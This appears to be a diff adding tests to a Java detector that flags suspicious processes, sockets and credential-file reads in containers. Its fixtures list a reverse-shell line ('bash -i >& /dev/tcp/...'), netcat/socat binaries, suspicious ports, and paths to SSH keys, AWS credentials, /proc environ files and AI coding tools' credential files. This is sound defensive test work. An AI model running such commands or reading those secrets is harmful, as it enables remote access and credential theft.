@@ -167,7 +167,8 @@ class NativeLookTest {
                 tcp(v4("10.0.0.2", 40007), v4(REMOTE, 4445), "01", 9208), tcp(v4("10.0.0.2", 1337), v4(REMOTE, 40000), "01", 9209),
                 tcp(v4("10.0.0.2", 1337), v4(REMOTE, 40000), "0A", 9210), tcp(v4("10.0.0.2", 2), v4(REMOTE, 3), "0B", 9211));
         net(1, "tcp6", tcp(v6("fd42::5", 5), v6("fd00:ec2::254", 80), "01", 9220), tcp(v6("::", 5555), v6("::", 0), "0A", 9221),
-                tcp(v6("fd42::5", 6), v6("fd00:ec2:0:0:0:0:0:254", 443), "08", 9222));
+                tcp(v6("fd42::5", 6), v6("fd00:ec2:0:0:0:0:0:254", 443), "08", 9222),
+                tcp(v6("::", 1337), "000000000000000000000000000000000:0000", "0A", 9223)); // 33 digits, as HostViewTest has one: Java reads 16 bytes
         net(1, "udp", udp(v4("10.0.0.2", 5000), v4(REMOTE, 4444), "01", 9230), udp(v4("0.0.0.0", 4444), v4("0.0.0.0", 0), "07", 9231),
                 udp(v4("10.0.0.2", 5001), v4(REMOTE, 1337), "07", 9232));
         Found found = compare(new Target("coi-m"));
@@ -175,7 +176,7 @@ class NativeLookTest {
                 "connection to the cloud metadata address 169.254.169.254", "connection to suspicious port 4444 of " + REMOTE,
                 "listening on suspicious port 4444", "connection to suspicious port 31337 of " + REMOTE, "listening on suspicious port 1337",
                 "connection to the cloud metadata address fd00:ec2::254", "listening on suspicious port 5555",
-                "connection to the cloud metadata address fd00:ec2::254", "connection to suspicious port 4444 of " + REMOTE,
+                "connection to the cloud metadata address fd00:ec2::254", "listening on suspicious port 1337", "connection to suspicious port 4444 of " + REMOTE,
                 "connection to suspicious port 1337 of " + REMOTE);
     }
 
@@ -412,6 +413,130 @@ class NativeLookTest {
         Run run = run(List.of());
         assertThat(run.status()).isZero();
         assertThat(run.err()).isEmpty();
+    }
+
+    /**
+     * Many random containers drawn from the shapes the detectors care about (programs, arguments, descriptor targets,
+     * sockets, odd bytes, half-read processes, layouts, thresholds, execs): both sides must agree on every one.
+     */
+    @Test
+    void randomContainersAgreeWithTheJavaReference() throws IOException {
+        String[] exes = {"/usr/bin/bash", "/bin/sh", "/usr/bin/python3.12", "/usr/bin/perl", "/usr/bin/node", "/usr/bin/nc", "/usr/bin/socat",
+                "/usr/bin/ncat", "/usr/bin/grep", "/usr/bin/rg", "/usr/bin/git-grep", "/usr/bin/cat", "/usr/bin/ssh", "/usr/bin/gh", "/usr/local/bin/claude",
+                "/usr/local/bin/codex", "/usr/bin/opencode", "/usr/bin/vim", "/usr/bin/bash (deleted)", "/tmp/x/\u00e9\"q\\", null, null, "/usr/bin/luajit",
+                "/usr/bin/php", "/usr/bin/busybox", "/usr/bin/egrep", "/usr/bin/docker", "/usr/bin/tclsh8"};
+        String[] tokens = {"-e", "-c", "-i", "--exec", "--sh-exec", "-r", "-k", "--key", "TOKEN", "api_key", "Secret", "passwd", "PassWord",
+                "/etc/passwd", "/proc/1/environ", "/proc/self/environ", "/proc/*/environ", "/proc/12/environ", "/proc/x/environ",
+                "/home/code/.ssh/id_rsa", ".ssh", ".aws/credentials", "/h/.config/gh/hosts.yml", "/h/.config/ghx", "/h/.docker/config.json", ".netrc", "@TOOL", "@TOOL",
+                "EXEC:sh", "system:id", "exec:\nx", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "/dev/udp/x/1", "/dev/tcp", "claude", "/opt/codex",
+                "token\r", "key\u2028", "key\u0085", "\u00e9key", "tok\u00e9n", "x\"y\\z", "\u0001\u001f", "\uD83D\uDE00", "", "node", "sh"};
+        String[] targets = {"pipe:[1]", "/dev/null", "/dev/pts/0", "/proc/1/environ", "/proc/self/environ", "/home/code/.ssh/id_ed25519",
+                "@TOOL", "@TOOL", "/h/.aws/config", "anon_inode:[eventfd]",
+                "/workspace/a b", "/h/.sshx"};
+        String[] addresses4 = {"10.0.0.2", "198.51.100.10", "127.0.0.1", "0.0.0.0", "169.254.169.254", "203.0.113.9"};
+        String[] addresses6 = {"fd42::5", "2001:db8::10", "::1", "::", "fd00:ec2::254", "::ffff:198.51.100.10", "::ffff:127.0.0.1", "1:0:0:2:0:0:0:3",
+                "0:0:1:0:0:1:0:0", "::ffff:169.254.169.254", "fe80::1:2:3:4"};
+        int[] ports = {0, 22, 80, 443, 4444, 5555, 1337, 31337, 8080, 40000};
+        String[] states = {"01", "02", "06", "0A", "08", "0B", "07"};
+        byte[][] odd = {{(byte) 0xff}, {(byte) 0xc3}, {(byte) 0xe2, (byte) 0x82}, {(byte) 0xed, (byte) 0xa0, (byte) 0x80}, {(byte) 0xf0, (byte) 0x9f, (byte) 0x98},
+                {(byte) 0xc2, (byte) 0x85}, {(byte) 0xf4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, {'\n'}, {'k', 'e', 'y', (byte) 0xfe}};
+        int threats = 0, bare = 0;
+        for (int seed = 1; seed <= 60; seed++) {
+            java.util.Random r = new java.util.Random(seed);
+            proc = root.resolve(seed + "/proc");
+            cgroups = root.resolve(seed + "/cgroup");
+            String name = "coi-r" + seed;
+            int n = 1 + r.nextInt(20);
+            List<Integer> pids = new ArrayList<>();
+            for (int i = 0; i < n; i++) pids.add(100 + i);
+            Map<String, List<Integer>> subgroups = new java.util.LinkedHashMap<>();
+            subgroups.put("init.scope", List.of(pids.getFirst()));
+            subgroups.put("user.slice", pids.subList(1, n / 2 + 1));
+            subgroups.put("user.slice/s.scope", pids.subList(n / 2, n));
+            cgroup(List.of("", "pids/", "unified/").get(r.nextInt(3)), name, r.nextInt(4) == 0 ? List.of(999) : List.of(), subgroups);
+            List<Long> inodes = new ArrayList<>();
+            for (int i = 0; i < 12; i++) inodes.add(5000L + r.nextInt(20));
+            // one tool's files per process: with two, Java names the one its Map.of happens to iterate first (see below)
+            String[] tools = {"/home/code/.claude/.credentials.json", "/home/code/.codex/auth.json", "/s/opencode/auth.json", "opencode/auth.json"};
+            for (int pid : pids) {
+                String tool = tools[r.nextInt(tools.length)];
+                String exe = exes[r.nextInt(exes.length)];
+                List<byte[]> args = new ArrayList<>();
+                int nargs = r.nextInt(6);
+                for (int a = 0; a < nargs; a++) {
+                    if (r.nextInt(6) == 0) {
+                        ByteArrayOutputStream arg = new ByteArrayOutputStream();
+                        arg.write(b(tokens[r.nextInt(tokens.length)].replace("@TOOL", tool)));
+                        arg.write(odd[r.nextInt(odd.length)]);
+                        if (r.nextBoolean()) arg.write(b(tokens[r.nextInt(tokens.length)].replace("@TOOL", tool)));
+                        args.add(arg.toByteArray());
+                    } else {
+                        args.add(b(tokens[r.nextInt(tokens.length)].replace("@TOOL", tool)));
+                    }
+                }
+                if (!args.isEmpty() && r.nextInt(3) > 0 && exe != null) args.set(0, b(exe.substring(exe.lastIndexOf('/') + 1)));
+                processBytes(pid, exe, args, null);
+                int nfds = r.nextInt(5);
+                for (int k = 0; k < nfds; k++) {
+                    int fd = r.nextInt(3) == 0 ? 3 + r.nextInt(5) : r.nextInt(3);
+                    Path link = proc.resolve(pid + "/fd/" + fd);
+                    if (Files.exists(link, java.nio.file.LinkOption.NOFOLLOW_LINKS)) continue;
+                    if (r.nextBoolean()) fd(pid, fd, "socket:[" + inodes.get(r.nextInt(inodes.size())) + "]");
+                    else if (r.nextInt(8) == 0) rawLink(link, new byte[] {'/', 'q', (byte) 0xff, '/', '.', 's', 's', 'h'});
+                    else fd(pid, fd, targets[r.nextInt(targets.length)].replace("@TOOL", tool));
+                }
+                switch (r.nextInt(25)) {
+                    case 0 -> Files.delete(proc.resolve(pid + "/io"));
+                    case 1 -> deleteTree(proc.resolve(Integer.toString(pid)));
+                    case 2 -> Files.writeString(proc.resolve(pid + "/status"), "Name:\tx\nUid:\t5\t5\t5\t5\n");
+                    case 3 -> Files.writeString(proc.resolve(pid + "/cgroup"), "0::/lxc.payload." + name + "/user.slice\n");
+                    default -> {}
+                }
+            }
+            for (String table : List.of("tcp", "tcp6", "udp", "udp6")) {
+                int rows = r.nextInt(6);
+                List<String> lines = new ArrayList<>();
+                for (int i = 0; i < rows; i++) {
+                    boolean six = table.endsWith("6");
+                    String local = six ? v6(addresses6[r.nextInt(addresses6.length)], ports[r.nextInt(ports.length)])
+                            : v4(addresses4[r.nextInt(addresses4.length)], ports[r.nextInt(ports.length)]);
+                    String remote = six ? v6(addresses6[r.nextInt(addresses6.length)], ports[r.nextInt(ports.length)])
+                            : v4(addresses4[r.nextInt(addresses4.length)], ports[r.nextInt(ports.length)]);
+                    String state = states[r.nextInt(states.length)];
+                    long inode = inodes.get(r.nextInt(inodes.size()));
+                    lines.add(table.startsWith("tcp") ? tcp(local, remote, state, inode) : udp(local, remote, state, inode));
+                }
+                if (Files.isDirectory(proc.resolve(pids.getFirst() + "/net"))) net(pids.getFirst(), table, lines.toArray(String[]::new));
+            }
+            List<Integer> execs = new ArrayList<>();
+            for (int i = 0; i < 3; i++) execs.add(100 + r.nextInt(n + 2));
+            List<Integer> suspicious = r.nextInt(5) == 0 ? List.of() : List.of(4444, 5555, 1337, 31337);
+            int threshold = r.nextInt(6) == 0 ? n - 1 : 200;
+            if (threshold < n) bare++;
+            Found found = compare(execs, new Target(name, "lxc.payload." + name, threshold, suspicious));
+            threats += found.threats().size();
+        }
+        assertThat(threats).as("the random containers raised threats to compare").isGreaterThan(100);
+        assertThat(bare).isPositive();
+    }
+
+    /**
+     * A process with two tools' credential files: Java names the tool its TOOL_CREDENTIALS (a Map.of, whose iteration
+     * order changes from one JVM start to the next) gives first; the native look names the first in source order.
+     */
+    @Test
+    void aProcessWithTwoToolsCredentialFilesIsNamedForTheFirstInSourceOrder() throws IOException {
+        cgroup("", "coi-2", List.of(1, 160), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        process(160, "/usr/bin/cat", "cat", "/home/code/.codex/auth.json", "/home/code/.claude/.credentials.json");
+        HostView view = new HostView(proc, cgroups);
+        Snapshot s = view.detailed("coi-2", view.pids("coi-2", view.cgroupOf("lxc.payload.coi-2")));
+        assertThat(Detectors.credentialScans(s)).singleElement().extracting(Threat::title)
+                .isIn("reading claude's credential file by cat", "reading codex's credential file by cat");
+        writeTargets(new Target("coi-2"));
+        Run run = run(List.of());
+        assertThat(run.status()).isZero();
+        assertThat(JSON.readTree(run.out().split("\n")[0]).at("/threat/title").asText()).isEqualTo("reading claude's credential file by cat");
     }
 
     // ------------------------------------------------------------------------------------------------ both sides
